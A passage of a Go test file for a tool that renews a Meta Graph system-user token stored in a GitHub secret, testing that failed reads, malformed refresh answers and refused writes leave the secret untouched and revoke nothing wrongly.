				f.gh.AddToken(ghToken, ghsecretstest.SecretsWrite, ghsecretstest.EnvironmentsWrite)
			}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			f := newFixture(t, 10*day)
			if tt.setup != nil {
				tt.setup(f)
			}
			f.cfg.Target = tt.target
			res, err := renew.Run(t.Context(), f.cfg)
			if err == nil {
				t.Fatalf("Run() = %+v, nil; want an error: the %s does not exist", res, tt.target)
			}
			if n := f.gh.Writes(); n != 0 {
				t.Errorf("GitHub writes = %d; want 0: a renewal never creates a secret", n)
			}
			if len(f.hidden) != 0 {
				t.Errorf("refreshed %d tokens; want none: the run fails before the refresh", len(f.hidden))
			}
			if msg := err.Error(); !strings.Contains(msg, "does not exist") || !strings.Contains(msg, tt.target.String()) {
				t.Errorf("Run() error = %q; want it to name the secret and say it does not exist", msg)
			}
			f.noneRevoked(t)
		})
	}
}

// TestRunNoUpdatedAt: GitHub's answers to the reads of the secret hold no
// updated_at (a proxy or server that drops it), and a person stores
// another token while the renewal refreshes. Two empty stamps compare
// equal, so the guard would see no change: a renewal that cannot read
// updated_at cannot guard its write, and must not write.
func TestRunNoUpdatedAt(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 10*day)
	fx := f.fx
	theirs := f.graph.IssueToken(minttest.TokenSpec{UserID: fx.SystemUserID, AppID: fx.AppID, Scopes: []string{"ads_read"}, ExpiresAt: f.graph.Now().Add(60 * day)})
	f.cfg.GitHub = f.githubClient(t, ghToken, ghsecrets.WithHTTPClient(&http.Client{Transport: &noUpdatedAt{next: http.DefaultTransport}}))
	f.graphThrough(t, func(next http.RoundTripper) http.RoundTripper {
		return &onPath{suffix: exchangePath, next: next, hook: func() {
			f.graph.Advance(time.Minute)
			f.gh.SetSecret(ghsecretstest.RepoScope(repo), name, theirs, "")
		}}
	})
	res, err := renew.Run(t.Context(), f.cfg)
	if err == nil || !strings.Contains(err.Error(), "updated_at") {
		t.Fatalf("Run() = %+v, %v; want an error saying updated_at cannot be read", res, err)
	}
	if n := f.gh.Writes(); n != 0 {
		t.Errorf("GitHub writes = %d; want 0: no stamp guards the write", n)
	}
	if got, _ := f.gh.Secret(ghsecretstest.RepoScope(repo), name); got.Value != f.old && got.Value != theirs {
		t.Errorf("the secret holds neither the old token nor the person's")
	}
	f.noneRevoked(t)
}

// noUpdatedAt is a transport that answers every read of the secret with
// its name only, no updated_at.
type noUpdatedAt struct{ next http.RoundTripper }

func (n *noUpdatedAt) RoundTrip(r *http.Request) (*http.Response, error) {
	resp, err := n.next.RoundTrip(r)
	if err != nil || r.Method != http.MethodGet || !strings.HasSuffix(r.URL.Path, "/secrets/"+name) {
		return resp, err
	}
	_ = resp.Body.Close()
	resp.Body = io.NopCloser(strings.NewReader(`{"name":"` + name + `"}`))
	return resp, nil
}

// TestRunNotASystemUserToken: debug_token says the token in the secret is
// not a system user's (a person's USER token, or an answer that names no
// user). A renewal proves the new token belongs to the old one's system
// user; without one it cannot, so it must refuse before the refresh: no
// token is issued, none revoked, the secret untouched. Where the refresh
// then answers another system user's token (the admin's), nothing may
// store it.
func TestRunNotASystemUserToken(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name  string
		setup func(f *fixture)
	}{
		{name: "a USER token", setup: func(f *fixture) {
			f.old = f.graph.IssueToken(minttest.TokenSpec{UserID: "900000000000009", BusinessID: f.fx.BusinessID, Type: "USER", AppID: f.fx.AppID,
				Scopes: []string{"ads_read"}, ExpiresAt: f.graph.Now().Add(10 * day)})
			f.gh.SetSecret(ghsecretstest.RepoScope(repo), name, f.old, "")
			f.cfg.AccessToken = f.old
		}},
		{name: "debug_token names no user, the refresh answers another system user's token", setup: func(f *fixture) {
			f.graph.FailNext(minttest.EndpointDebugToken, minttest.Fault{Status: 200, Body: fmt.Appendf(nil,
				`{"data":{"app_id":%q,"type":"SYSTEM_USER","application":"Metamint Test App","expires_at":%d,"is_valid":true,"issued_at":1,"scopes":["ads_read"]}}`,
				f.fx.AppID, f.graph.Now().Add(10*day).Unix())})
			admins := f.graph.IssueToken(minttest.TokenSpec{UserID: f.fx.AdminSystemUserID, AppID: f.fx.AppID, Scopes: []string{"ads_read"}, ExpiresAt: f.graph.Now().Add(60 * day)})
			f.graph.FailNext(minttest.EndpointExchange, minttest.Fault{Status: 200,
				Body: fmt.Appendf(nil, `{"access_token":%q,"token_type":"bearer","expires_in":5184000}`, admins)})
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			f := newFixture(t, 10*day)
			tt.setup(f)
			res, err := renew.Run(t.Context(), f.cfg)
			if err == nil {
				t.Fatalf("Run() = %+v, nil; want an error: the token in the secret is not a system user's", res)
			}
			if !strings.Contains(err.Error(), "system user") {
				t.Errorf("Run() error = %q; want it to say a renewal needs a system user token", err)
			}
			if got, _ := f.gh.Secret(ghsecretstest.RepoScope(repo), name); got.Value != f.old || f.gh.Writes() != 0 {
				t.Errorf("the secret was written")
			}
			if len(f.hidden) != 0 {
				t.Errorf("refreshed %d tokens; want none: the run refuses before the refresh", len(f.hidden))
			}
			f.noneRevoked(t)
		})
	}
}

// TestRunRefreshEchoesOldTokenPadded: Graph (or a proxy) answers the
// refresh with the old token's own value with white space around it. The
// value is malformed and refused; a malformed token is revoked, but this
// one is the token the secret holds, and a Graph that reads past the
// white space would revoke it: no revocation may name it.
func TestRunRefreshEchoesOldTokenPadded(t *testing.T) {
	t.Parallel()
	for _, pad := range []struct{ name, before, after string }{
		{"a line break after", "", "\n"},
		{"a CRLF after", "", "\r\n"},
		{"a space before", " ", ""},
		{"a tab before and a line break after", "\t", "\n"},
	} {
		t.Run(pad.name, func(t *testing.T) {
			t.Parallel()
			f := newFixture(t, 10*day)
			f.graph.FailNext(minttest.EndpointExchange, minttest.Fault{Status: 200,
				Body: fmt.Appendf(nil, `{"access_token":%q,"token_type":"bearer","expires_in":5184000}`, pad.before+f.old+pad.after)})
			_, err := renew.Run(t.Context(), f.cfg)
			if err == nil {
				t.Fatal("Run() = nil; want the malformed token refused")
			}
			for _, r := range f.graph.Requests() {
				if r.Endpoint == minttest.EndpointRevoke && strings.TrimSpace(r.Form.Get("revoke_token")) == f.old {
					t.Errorf("a revocation named the old token, padded %q", r.Form.Get("revoke_token"))
				}
			}
			if strings.Contains(err.Error(), "revoke every token") {
				t.Errorf("Run() error = %q; advises revoking every token of the system user, the one in the secret included", err)
			}
			if strings.Contains(err.Error(), f.old) {
				t.Errorf("Run() error holds the token")
			}
			if got, _ := f.gh.Secret(ghsecretstest.RepoScope(repo), name); got.Value != f.old || f.gh.Writes() != 0 {
				t.Errorf("the secret was written")
			}
			f.noneRevoked(t)
		})
	}
}

// failReadsAfterWrite is a transport that, once the first PUT passed,
// calls hook before each later read of the secret's updated_at; a hook
// that returns true answers that read with a broken connection.
type failReadsAfterWrite struct {
	next    http.RoundTripper
	written bool
	hook    func() bool
}

func (f *failReadsAfterWrite) RoundTrip(r *http.Request) (*http.Response, error) {
	if r.Method == http.MethodGet && f.written && strings.HasSuffix(r.URL.Path, "/secrets/"+name) && f.hook() {
		return nil, errors.New("connection reset by peer")
	}
	if r.Method == http.MethodPut {
		f.written = true
	}
	return f.next.RoundTrip(r)
}

// TestRunReadBackNotMade: the write fails (GitHub refuses it, or its
// answer is lost), and the read of updated_at that decides whether the new
// token may be revoked (or the write sent once more) cannot be made: GitHub
// throttles it for longer than the run may wait, or it gets no answer. The
// token may be stored, so it is kept and the write is not sent again; the
// message says what is known (the read could not be made) and what to
// check, and blames no other writer: nothing shows one.
func TestRunReadBackNotMade(t *testing.T) {
	t.Parallel()
	throttled := func(f *fixture) bool {
		f.gh.RateLimitNext(ghsecretstest.RateLimit{Method: http.MethodGet, Status: http.StatusTooManyRequests,
			Message: "You have exceeded a secondary rate limit.", Header: http.Header{"Retry-After": {"3600"}}})
		return false
	}
	noAnswer := func(*fixture) bool { return true }
	tests := []struct {
		name   string
		write  func(f *fixture)
		read   func(f *fixture) bool
		writes int
		why    string // what the message says of the read
	}{
		{name: "refused write, read throttled", write: func(f *fixture) { f.gh.FailNextWrite(http.StatusUnprocessableEntity, "Bad request") },
			read: throttled, writes: 1, why: "rate limit"},
		{name: "refused write, read unanswered", write: func(f *fixture) { f.gh.FailNextWrite(http.StatusUnprocessableEntity, "Bad request") },
			read: noAnswer, writes: 1, why: "connection failed"},
		{name: "lost write answer, read throttled", write: func(f *fixture) { f.gh.DropNextWrites(1) },
			read: throttled, writes: 1, why: "rate limit"},
		{name: "lost write answer, read unanswered", write: func(f *fixture) { f.gh.DropNextWrites(1) },
			read: noAnswer, writes: 1, why: "connection failed"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			f := newFixture(t, 10*day)
			f.cfg.GitHub = f.githubClient(t, ghToken, ghsecrets.WithHTTPClient(&http.Client{Transport: &failReadsAfterWrite{
				next: http.DefaultTransport, hook: func() bool { return tt.read(f) },
			}}))
			tt.write(f)
			_, err := renew.Run(t.Context(), f.cfg)
			if err == nil {
				t.Fatal("Run() = nil; want the failed write reported")
			}
			f.noneRevoked(t)
			if n := f.gh.Writes(); n != tt.writes {
				t.Errorf("GitHub writes = %d; want %d", n, tt.writes)
			}
			msg := err.Error()
			for _, blame := range []string{"another writer", "someone else", "may be what changed it", "written meanwhile"} {
				if strings.Contains(msg, blame) {
					t.Errorf("Run() error = %q; says %q, but no other write was seen: the read could not be made", msg, blame)
				}
			}
			for _, want := range []string{"could not be made", tt.why, "may hold the new token", "kept, not revoked", "Check the secret's update time"} {
				if !strings.Contains(msg, want) {
					t.Errorf("Run() error = %q; want it to say %q", msg, want)
				}
			}
			if strings.Contains(msg, ghToken) {
				t.Errorf("Run() error holds the GitHub token")
			}
		})
	}
}

// inPlace makes Graph extend the token in place: debug_token says it
// expires in 10 days, the refresh answers its own value, and debug_token
// then says it expires at after.
func (f *fixture) inPlace(after time.Time) {
	debug := func(exp time.Time) minttest.Fault {
		return minttest.Fault{Status: http.StatusOK, Body: fmt.Appendf(nil,
			`{"data":{"app_id":%q,"type":"SYSTEM_USER","application":"Metamint Test App","expires_at":%d,"is_valid":true,"issued_at":1,"scopes":["ads_read"],"user_id":%q}}`,
			f.fx.AppID, exp.Unix(), f.fx.SystemUserID)}
	}
	f.graph.FailNext(minttest.EndpointDebugToken, debug(f.graph.Now().Add(10*day)))
	f.graph.FailNext(minttest.EndpointExchange, minttest.Fault{Status: http.StatusOK,
		Body: fmt.Appendf(nil, `{"access_token":%q,"token_type":"bearer","expires_in":5184000}`, f.old)})
	f.graph.FailNext(minttest.EndpointDebugToken, debug(after))
}

// TestRunExtendedInPlace: Graph answers the refresh with the old token's
// own value and a later expiry. The Result says so (InPlace); when the
// write then fails, the message gives the token's new expiry, not the one
// Graph replaced, and nothing is revoked.
func TestRunExtendedInPlace(t *testing.T) {
	t.Parallel()
	t.Run("stored", func(t *testing.T) {
		t.Parallel()
		f := newFixture(t, 10*day)
		after := f.graph.Now().Add(60 * day).Truncate(time.Second)
		f.inPlace(after)
		res, err := renew.Run(t.Context(), f.cfg)
		if err != nil || res.Outcome != renew.Renewed || !res.InPlace || !res.ExpiresAt.Equal(after) {
			t.Fatalf("Run() = %+v, %v; want Renewed in place, expiring %v", res, err, after)
		}
		f.noneRevoked(t)
	})
	t.Run("refused write", func(t *testing.T) {
		t.Parallel()
		f := newFixture(t, 10*day)
		after := f.graph.Now().Add(60 * day).Truncate(time.Second)
		f.inPlace(after)
		f.gh.FailNextWrite(http.StatusUnprocessableEntity, "Bad request")
		_, err := renew.Run(t.Context(), f.cfg)
		if err == nil {
			t.Fatal("Run() = nil; want the refused write reported")
		}
		if want := "still works until " + after.UTC().Format(time.RFC3339); !strings.Contains(err.Error(), want) {
			t.Errorf("Run() error = %q; want it to say %q", err, want)
		}
		f.noneRevoked(t)
	})
	// The token is the one the secret holds: no message may advise
	// revoking it, even when the read that decides a revocation fails.
	t.Run("refused write, read throttled", func(t *testing.T) {
		t.Parallel()
		f := newFixture(t, 10*day)
		f.cfg.GitHub = f.githubClient(t, ghToken, ghsecrets.WithHTTPClient(&http.Client{Transport: &failReadsAfterWrite{
			next: http.DefaultTransport, hook: func() bool {
				f.gh.RateLimitNext(ghsecretstest.RateLimit{Method: http.MethodGet, Status: http.StatusTooManyRequests,
					Message: "You have exceeded a secondary rate limit.", Header: http.Header{"Retry-After": {"3600"}}})
				return false
			},
		}}))
		f.inPlace(f.graph.Now().Add(60 * day))
		f.gh.FailNextWrite(http.StatusUnprocessableEntity, "Bad request")
		_, err := renew.Run(t.Context(), f.cfg)
		if err == nil || strings.Contains(err.Error(), "revoke it") || !strings.Contains(err.Error(), "never revoked") {
			t.Fatalf("Run() = %v; want the refused write reported, saying the token (the secret's own) is never revoked", err)
		}
		f.noneRevoked(t)
	})
}
